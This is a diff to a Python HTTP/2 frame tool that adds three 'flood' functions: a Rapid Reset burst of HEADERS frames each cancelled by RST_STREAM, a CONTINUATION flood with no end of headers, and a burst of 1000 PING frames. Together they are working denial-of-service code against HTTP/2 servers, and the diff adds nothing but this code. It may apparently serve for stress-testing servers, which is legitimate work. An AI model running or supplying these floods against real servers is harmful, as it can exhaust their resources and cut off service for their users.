@@ -49,3 +49,25 @@ def until_closed(connection):
         frames.append((data[3], data[9:9 + size]))
         data = data[9 + size:]
     return frames
+
+
+# Floods: each sends some on a connection, and returns the stream to go on with.
+
+
+def rapid_reset(connection, stream):
+    block = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, header()) + frame(RST_STREAM, 0, stream + 2 * i, bytes([0, 0, 0, 8]))
+                     for i in range(100))
+    connection.sendall(block)
+    return stream + 200
+
+
+def continuation(connection, stream):
+    if stream == 1:
+        connection.sendall(frame(HEADERS, 0, 1, header()))
+    connection.sendall(frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x01b" * 600) * 20)
+    return 3
+
+
+def pings(connection, stream):
+    connection.sendall(frame(PING, 0, 0, bytes(8)) * 1000)
+    return stream
